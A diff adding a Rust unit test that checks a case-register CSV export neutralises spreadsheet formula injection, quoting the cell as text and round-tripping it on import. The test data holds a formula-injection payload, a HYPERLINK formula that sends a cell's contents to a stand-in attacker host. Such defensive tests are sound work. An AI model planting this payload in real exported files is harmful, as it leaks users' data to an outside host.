@@ -1363,6 +1363,29 @@ mod tests {
         Ok(())
     }
 
+    #[test]
+    fn a_formula_like_matter_is_exported_as_text_and_imports_back_the_same()
+    -> Result<(), Box<dyn std::error::Error>> {
+        let mut row = exported();
+        row.matter = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"点击查看\")".into();
+        let table = table(std::slice::from_ref(&row));
+        let bytes = zhzj_export::to_csv(&table)?;
+        assert!(
+            String::from_utf8(bytes.clone())?.contains("\"'=HYPERLINK("),
+            "the exported cell opens as text"
+        );
+        let checked = check(
+            &bytes,
+            Format::Csv,
+            &directory(),
+            &Existing::default(),
+            today(),
+        )
+        .map_err(|e| format!("{e:?}"))?;
+        assert_eq!(checked.cases[0].register.matter, row.matter);
+        Ok(())
+    }
+
     /// What the system holds after importing [`exported`].
     fn imported() -> Existing {
         let number = "XF20250601-0001".to_owned();
